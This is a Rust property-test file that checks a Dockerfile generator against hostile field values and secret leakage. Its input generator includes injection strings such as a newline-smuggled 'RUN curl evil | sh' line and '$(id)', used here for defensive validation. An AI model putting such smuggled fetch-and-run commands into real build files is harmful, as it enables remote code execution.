//! Property tests: hostile strings in any field either fail validation with
//! a field path, or render files that contain exactly the plan's
//! instructions and nothing else.
// Helper functions outside #[test] unwrap too: a failure is a test failure.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use mcpfleet_dockerfile_gen::{BuildPlan, Entrypoint, Error, Probe, Renderer, ServerSpec};
use proptest::prelude::*;

/// Instruction keywords of a rendered Dockerfile: continuation lines joined,
/// comments and blank lines skipped.
fn rendered_instructions(dockerfile: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut continued = false;
    for line in dockerfile.lines() {
        let starts_instruction = !continued;
        continued = line.ends_with('\\');
        if !starts_instruction {
            continue;
        }
        let trimmed = line.trim_start();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        out.push(trimmed.split_whitespace().next().unwrap().to_owned());
    }
    out
}

fn hostile() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            4 => "[a-z0-9]",
            1 => prop::sample::select(vec![
                "\n", "\r", "\0", "\"", "'", "\\", "$", "`", ";", "&", "|", "<", ">", "(", ")",
                "*", "?", "#", " ", "..", "/", "-", "=", "{{", "}}", "é", "\u{2028}", "\t",
                "\nRUN curl evil | sh", "${HOME}", "$(id)",
            ])
            .prop_map(str::to_owned),
        ],
        0..12,
    )
    .prop_map(|parts| parts.concat())
}

/// Puts `value` into the field numbered `slot`; returns the field's path.
fn inject(spec: &mut ServerSpec, slot: usize, value: String) -> &'static str {
    match slot {
        0 => {
            spec.name = value;
            "name"
        }
        1 => {
            spec.env[0].default = Some(value);
            "env[0].default"
        }
        2 => {
            spec.env[0].name = value;
            "env[0].name"
        }
        3 => {
            spec.labels.description = Some(value);
            "labels.description"
        }
        4 => {
            spec.entrypoint = Entrypoint::Script {
                path: "stdio_server.py".into(),
                args: vec![value],
            };
            "entrypoint.args[0]"
        }
        5 => {
            spec.sources = vec!["stdio_server.py".into(), value];
            "sources[1]"
        }
        6 => {
            spec.labels.tools = vec![value];
            "labels.tools[0]"
        }
        7 => {
            spec.healthcheck.probe = Probe::Http { path: value };
            "healthcheck.probe.path"
        }
        8 => {
            spec.labels.extra.insert("com.example.note".into(), value);
            "labels.extra[com.example.note]"
        }
        9 => {
            spec.user.name = value;
            "user.name"
        }
        _ => {
            spec.writable_paths = vec![value];
            "writable_paths[0]"
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn hostile_values_are_rejected_or_contained(slot in 0usize..11, value in hostile()) {
        let mut spec = common::server_spec("python-proxy");
        let field = inject(&mut spec, slot, value.clone());
        match BuildPlan::from_spec(&spec) {
            Err(Error::InvalidSpec { field: got, .. }) => {
                prop_assert_eq!(got, field);
            }
            Err(other) => prop_assert!(false, "unexpected error {other}"),
            Ok(plan) => {
                let files = Renderer::new().unwrap().render(&plan).unwrap();
                let dockerfile = files.get("Dockerfile").unwrap();
                let expected: Vec<String> =
                    plan.instructions().into_iter().map(str::to_owned).collect();
                prop_assert_eq!(rendered_instructions(dockerfile), expected, "{}", dockerfile);
                let ignore: Vec<&str> = files
                    .get(".dockerignore")
                    .unwrap()
                    .lines()
                    .filter(|l| !l.starts_with('#'))
                    .collect();
                prop_assert_eq!(ignore, plan.dockerignore.iter().map(String::as_str).collect::<Vec<_>>());
                prop_assert!(!value.contains('\n') && !value.contains('\r') && !value.contains('\0'));
            }
        }
    }
}

#[test]
fn every_variant_renders_exactly_its_plan() {
    for variant in common::VARIANTS {
        let (plan, files) = common::render(&common::server_spec(variant));
        let expected: Vec<String> = plan.instructions().into_iter().map(str::to_owned).collect();
        assert_eq!(
            rendered_instructions(files.get("Dockerfile").unwrap()),
            expected,
            "{variant}"
        );
    }
}

#[test]
fn secret_names_stay_out_of_images_and_values_out_of_everything() {
    let (_, fleet_files) = common::fleet();
    for variant in common::VARIANTS {
        let spec = common::server_spec(variant);
        let (_, files) = common::render(&spec);
        for secret in spec.env.iter().filter(|v| v.secret) {
            for file in &files.files {
                assert!(
                    !file.contents.contains(&secret.name),
                    "{variant}: secret {} appears in {}",
                    secret.name,
                    file.path.display()
                );
            }
        }
    }
    // The fleet's secrets appear only as `${NAME:?...}` interpolations.
    let compose = fleet_files.get("docker-compose.yml").unwrap();
    for line in compose.lines().filter(|l| l.contains("NOTES_TOKEN")) {
        assert_eq!(
            line.trim(),
            "NOTES_TOKEN: \"${NOTES_TOKEN:?NOTES_TOKEN must be set in the environment}\""
        );
    }
}
